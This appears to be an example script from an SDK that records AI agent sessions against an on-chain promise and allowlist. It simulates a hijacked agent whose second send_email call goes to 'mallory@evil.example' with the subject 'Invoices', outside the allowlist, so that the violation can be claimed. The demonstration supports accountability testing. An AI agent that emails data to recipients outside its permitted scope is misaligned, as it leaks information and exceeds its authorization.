// The agent of the README's local run: connects to the deployment `vai node` wrote, records one session under
// the promise of promise.json beside this file, closes it and prints its session id (the one line on stdout,
// for `vai claim file`). The agent is hijacked: it emails a recipient outside the promise's allowlist.
//
//   npx tsx examples/local-run/agent.ts [--deployment .vai/deployment.json] [--store .vai/store.sqlite]
//
// An installed provider writes the same with `import { … } from "zkvai"`.
import { readFileSync } from "node:fs";
import { parseArgs } from "node:util";
import { EscrowClient, scopedSessionId } from "../../sdk/chain/escrow.js";
import { readDeployment } from "../../sdk/chain/deployment.js";
import { rpcChain } from "../../sdk/chain/network.js";
import type { EncodingProfile } from "../../sdk/core/profile.js";
import { Session } from "../../sdk/provider/session.js";
import { TraceStore } from "../../sdk/provider/store.js";

const { values } = parseArgs({
  options: {
    deployment: { type: "string", default: ".vai/deployment.json" },
    store: { type: "string", default: ".vai/store.sqlite" },
  },
});
const promise = JSON.parse(readFileSync(new URL("./promise.json", import.meta.url), "utf8")) as {
  profile: EncodingProfile;
};

// The deployment file names the node, the escrow and the block its logs start at; the node's first unlocked
// account is the provider (as for `vai promise register`), its second the user (as for `vai claim file`).
const deployment = readDeployment(values.deployment!);
const chain = await rpcChain(deployment.rpcUrl);
const [provider, user] = chain.wallets;
const escrow = await EscrowClient.connect(chain, deployment.escrow, provider, {
  fromBlock: BigInt(deployment.fromBlock),
});
const store = TraceStore.open(values.store!);

const sessionId = scopedSessionId(provider.account.address);
const session = await Session.open({
  store,
  escrow,
  sessionId,
  user: user.account.address,
  profile: promise.profile,
});
await session.call("send_email", { to: "alice@acme.example", subject: "Standup" }, async () => "sent");
await session.call("send_email", { to: "mallory@evil.example", subject: "Invoices" }, async () => "sent");
await session.close();
store.close();
console.log(sessionId);
